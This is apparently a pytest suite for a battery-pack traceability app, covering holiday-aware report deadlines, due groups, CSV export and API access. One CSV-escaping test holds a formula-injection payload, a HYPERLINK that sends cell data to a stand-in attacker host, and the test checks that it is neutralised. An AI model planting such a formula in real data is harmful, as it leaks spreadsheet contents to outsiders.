"""Traceability: working-day deadlines across holidays, due groups, marking, CSV, API."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import flask
import pytest

from lithloop.extensions import db
from lithloop.models import OrgKind, PackEvent, Role
from lithloop.services.errors import Conflict
from lithloop.services.packs import handover_export, traceability
from tests.conftest import api_headers, freeze_clock, submit
from tests.factories import make_org, make_park, make_user
from tests.pack_builders import event, make_pack, utc

NOW = utc(2026, 3, 10, 2)  # Tuesday 10 March 2026, 10:00 in Beijing


@pytest.mark.parametrize(
    "at, due",
    [
        # Thu 12 Feb 2026, 23:30 Beijing: Sat 14 Feb is a working day (调休), 15-23 Feb are the
        # Spring Festival, Sat 28 Feb works too. Mon-Fri counting alone would give 5 March.
        (utc(2026, 2, 12, 15, 30), date(2026, 3, 11)),
        # 00:30 on Fri 13 Feb in Beijing (still the 12th in UTC): one working day later.
        (utc(2026, 2, 12, 16, 30), date(2026, 3, 12)),
        # Fri 26 Sep 2025: Sun 28 Sep works, 1-8 Oct National Day, Sat 11 Oct works.
        (utc(2025, 9, 26, 4), date(2025, 10, 23)),
    ],
)
def test_handover_deadline_counts_chinese_working_days(app, at, due):
    park = make_park()
    plant = make_user(park, role=Role.PLANT_OPERATOR)
    pack = make_pack(plant, received_at=at)
    stored = db.session.get(PackEvent, pack.events[0].id)
    assert stored.kind == "received" and stored.report_due == due


@pytest.fixture
def world(app, monkeypatch):
    """Handovers overdue, due soon and later on 10 March 2026, plus some not to list."""
    freeze_clock(monkeypatch, NOW)
    park = make_park()
    plant = make_user(park, role=Role.PLANT_OPERATOR)
    admin = make_user(park, role=Role.ADMIN)
    owner = make_org(OrgKind.DEALER_BRANCH, name="穆棱经销商")
    overdue = make_pack(plant, owner=owner, received_at=utc(2026, 2, 5, 2))  # due 4 Mar
    soon = make_pack(plant, owner=owner, received_at=utc(2026, 2, 12, 15, 30))  # due 11 Mar
    soon2 = make_pack(
        plant,
        owner=owner,
        received_at=utc(2026, 2, 12, 16, 30),
        chemistry="NCM622",
        original_code=None,
    )  # due 12 Mar
    later = make_pack(plant, owner=owner, received_at=utc(2026, 3, 9, 2))
    done = make_pack(plant, received_at=utc(2026, 2, 2, 2))
    first = done.events[0]
    first.reported_at, first.reported_by_id = utc(2026, 2, 3), admin.id
    event(later, "graded", plant, at=utc(2026, 3, 9, 3))  # not a handover
    db.session.commit()
    ids = {
        name: p.events[0].id
        for name, p in dict(overdue=overdue, soon=soon, soon2=soon2, later=later, done=done).items()
    }
    return {
        "park": park,
        "plant": plant,
        "admin": admin,
        "owner": owner,
        "ids": ids,
        "packs": {"overdue": overdue, "soon": soon, "soon2": soon2},
    }


def test_due_groups_split_by_deadline(world):
    groups = traceability.due_groups()
    ids = world["ids"]
    assert groups.today == date(2026, 3, 10) and groups.soon_until == date(2026, 3, 13)
    assert [e.id for e in groups.overdue] == [ids["overdue"]]
    assert [e.id for e in groups.due_soon] == [ids["soon"], ids["soon2"]]
    assert [e.id for e in groups.later] == [ids["later"]]
    assert groups.total == 4


def test_trace_page_marks_reported_once(client, auth, world):
    ids = world["ids"]
    auth.login(world["admin"].email)
    client.get("/lang/en")
    page = client.get("/trace/").get_data(as_text=True)
    assert page.count('type="checkbox" name="event"') == 4
    assert f'value="{ids["done"]}"' not in page and "Overdue (1)" in page
    response = submit(
        client, "/trace/reported", {"event": [ids["overdue"], ids["soon"]]}, page="/trace/"
    )
    assert response.status_code == 302
    db.session.expire_all()
    marked = db.session.get(PackEvent, ids["overdue"])
    assert marked.reported_at == NOW and marked.reported_by_id == world["admin"].id
    again = submit(
        client, "/trace/reported", {"event": [ids["soon2"], ids["overdue"]]}, page="/trace/"
    )
    assert again.status_code == 409 and "already marked" in again.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(PackEvent, ids["soon2"]).reported_at is None  # all or none
    assert submit(client, "/trace/reported", {}, page="/trace/").status_code == 422
    assert [e.id for e in traceability.due_groups().due_soon] == [ids["soon2"]]


def test_mark_reported_twice_is_a_conflict_in_the_service(world):
    ids = world["ids"]
    traceability.mark_reported(world["admin"], [ids["later"]])
    with pytest.raises(Conflict) as err:
        traceability.mark_reported(world["admin"], [ids["later"]])
    assert err.value.status == 409 and err.value.code == "already_reported"


def test_csv_has_the_platform_columns(client, auth, world):
    auth.login(world["admin"].email)
    response = client.get("/trace/handovers.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert tuple(rows[0]) == handover_export.CSV_COLUMNS
    assert [r["pack_code"] for r in rows] == [
        world["packs"][k].code for k in ("overdue", "soon", "soon2")
    ] + [rows[3]["pack_code"]]
    soon2 = rows[2]
    assert soon2 == {
        "pack_code": world["packs"]["soon2"].code,
        "original_code": "",
        "chemistry": "NCM622",
        "event_kind": "received",
        "event_time_local": "2026-02-13 00:30:00",
        "organisation": world["park"].name,
        "counterparty": "穆棱经销商",
        "mass_kg": "300.00",
        "report_due": "2026-03-12",
        "report_due_status": "",
    }  # 2026 is covered: not provisional


def test_a_csv_left_unread_leaves_the_tests_app_context_on_top(client, auth, world):
    """The harness reads a streamed body whole and closes it (as a WSGI server does): a
    body left half-read kept the export's generator, and the app context it opened, on this
    thread; a later test's teardown then popped the wrong context (a CI failure)."""
    auth.login(world["admin"].email)
    mine = flask.current_app._get_current_object()
    response = client.get("/trace/handovers.csv")
    assert response.status_code == 200
    assert flask.current_app._get_current_object() is mine


@pytest.mark.parametrize("year", ["1999", "2027", "abc", "２０２６", "99999999999999999999"])
def test_a_year_the_archive_cannot_serve_is_refused_naming_those_it_can(client, auth, world, year):
    """A year out of range, or not a number, once served the next upload batch as if it were
    that year's archive: now the page says which years there are, and no file is sent."""
    auth.login(world["admin"].email)
    client.get("/lang/en")
    response = client.get(f"/trace/handovers.csv?year={year}")
    assert response.status_code == 422 and response.mimetype == "text/html"
    assert "Content-Disposition" not in response.headers
    page = response.get_data(as_text=True)
    # NOW is in 2026, and so is every handover of world: one year, not "from 2026 to 2026"
    assert "there is one for 2026 only." in page and "from 2026 to 2026" not in page
    served = client.get("/trace/handovers.csv?year=2026")
    assert served.status_code == 200 and served.mimetype == "text/csv"


def _offered_years(page: str) -> list[int]:
    select = re.search(r'<select name="year">(.*?)</select>', page, re.S).group(1)
    return [int(y) for y in re.findall(r'<option value="(\d+)"', select)]


def test_the_archive_offers_and_serves_every_year_with_handovers_and_no_other(client, auth, world):
    """The page offered the last ten years while the CSV served 2000 to this year: a handover
    of 2012 was in no year the page offered, and 2005 was served as an empty file. Now both
    take the years from the first handover on record to this year; the page offers a file
    for the years with handovers and says which years have none (each was an empty file)."""
    old = make_pack(world["plant"], owner=world["owner"], received_at=utc(2012, 5, 3, 2))
    auth.login(world["admin"].email)
    client.get("/lang/en")
    page = client.get("/trace/").get_data(as_text=True)
    assert _offered_years(page) == [2026, 2012]
    assert "No handover in 2013–2025: there is no file for those years." in page
    served = client.get("/trace/handovers.csv?year=2012")
    rows = list(csv.DictReader(io.StringIO(served.get_data(as_text=True).lstrip("\ufeff"))))
    assert served.status_code == 200 and [r["pack_code"] for r in rows] == [old.code]
    refused = client.get("/trace/handovers.csv?year=2011")
    assert refused.status_code == 422 and "Content-Disposition" not in refused.headers
    assert "from 2012 to 2026" in refused.get_data(as_text=True)


def test_without_any_handover_the_archive_says_so_and_offers_no_file(client, auth, monkeypatch):
    freeze_clock(monkeypatch, NOW)
    admin = make_user(make_park(), role=Role.ADMIN)
    auth.login(admin.email)
    client.get("/lang/en")
    page = client.get("/trace/").get_data(as_text=True)
    assert '<select name="year">' not in page  # no empty file offered
    assert "No handover on record in 2026: there is no file to download." in page
    assert client.get("/trace/handovers.csv?year=2026").status_code == 200  # its header alone
    assert client.get("/trace/handovers.csv?year=2025").status_code == 422


FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def test_csv_writes_formula_like_names_as_text(client, auth, world):
    """An organisation (counterparty) named like a formula is exported with a leading ',
    so a spreadsheet shows it as text; the mass stays a number."""
    owner = world["owner"]
    owner.name = FORMULA_NAME
    world["park"].name = "+86 牡丹江园区"
    db.session.commit()
    auth.login(world["admin"].email)
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/trace/handovers.csv").get_data(as_text=True).lstrip("\ufeff"))
        )
    )
    assert {r["counterparty"] for r in rows[:3]} == {"'" + FORMULA_NAME}
    assert {r["organisation"] for r in rows} == {"'+86 牡丹江园区"}
    assert rows[0]["mass_kg"] == "300.00"


def test_trace_is_for_admins_only(client, auth, world):
    auth.login(world["plant"].email)
    assert client.get("/trace/").status_code == 403
    assert client.get("/trace/handovers.csv").status_code == 403


def test_api_traceability_due(client, world):
    ids = world["ids"]
    response = client.get("/api/v1/traceability/due", headers=api_headers(client, world["admin"]))
    assert response.status_code == 200
    body = response.json
    assert [e["id"] for e in body["overdue"]] == [ids["overdue"]]
    assert [e["id"] for e in body["due_soon"]] == [ids["soon"], ids["soon2"]]
    assert [e["id"] for e in body["later"]] == [ids["later"]]
    assert body["due_soon"][1]["report_due"] == "2026-03-12"
    assert body["overdue"][0]["pack_code"] == world["packs"]["overdue"].code
    plant = client.get("/api/v1/traceability/due", headers=api_headers(client, world["plant"]))
    assert plant.status_code == 403
    assert client.get("/api/v1/traceability/due").status_code == 401


def _group_ids(page: str, key: str) -> list[int]:
    """The handover ids ticked in one group's section of the trace page."""
    section = page.split(f'id="{key}"', 1)[1].split("</section>", 1)[0]
    return [int(i) for i in re.findall(r'name="event" value="(\d+)"', section)]


def test_trace_page_lists_fifty_a_group_and_pages_the_rest(client, auth, world):
    pack = world["packs"]["overdue"]
    for n in range(55):  # 56 overdue in all: a page of 50, then 6
        db.session.add(
            PackEvent(
                pack_id=pack.id,
                kind="dismantled",
                at=utc(2026, 2, 20, 2, n),
                organisation_id=world["park"].id,
                data={},
                public=False,
                report_due=date(2026, 3, 5),
            )
        )
    db.session.commit()
    auth.login(world["admin"].email)
    first = client.get("/trace/").get_data(as_text=True)
    second = client.get("/trace/?page=2").get_data(as_text=True)
    assert "（56）" in first and traceability.GROUP_PAGE == 50
    page_one, page_two = _group_ids(first, "overdue"), _group_ids(second, "overdue")
    assert len(page_one) == 50 and len(page_two) == 6
    assert page_one[0] == world["ids"]["overdue"]  # the oldest deadline first
    assert not set(page_one) & set(page_two)
    assert _group_ids(first, "due-soon") == [world["ids"]["soon"], world["ids"]["soon2"]]
    assert _group_ids(second, "due-soon") == []  # the small groups end on the first page
    assert re.search(rf'aria-label="[^"{{}}]+{pack.code}[^"{{}}]*"', first)  # named per row
    past = client.get("/trace/?page=5").get_data(as_text=True)  # past every group's end
    assert re.search(r'class="empty past-last">[^\n]*href="/trace/\?page=2"', past)
    assert "past-last" not in second and "past-last" not in first


def test_the_counts_on_the_chinese_trace_page_are_in_full_width_brackets(client, auth, world):
    """Trace walk: the Chinese page read "已逾期 (1)" and "产业园 (4)" with half-width
    brackets (the organisation filter too); a Chinese page uses （）, the English one " (1)"."""
    auth.login(world["admin"].email)
    page = client.get("/trace/").get_data(as_text=True)
    assert "已逾期（1）</h2>" in page and f"{world['park'].name}（4）</option>" in page
    assert not re.search(r" \(\d+\)<", page)
    client.get("/lang/en")
    assert "Overdue (1)</h2>" in client.get("/trace/").get_data(as_text=True)
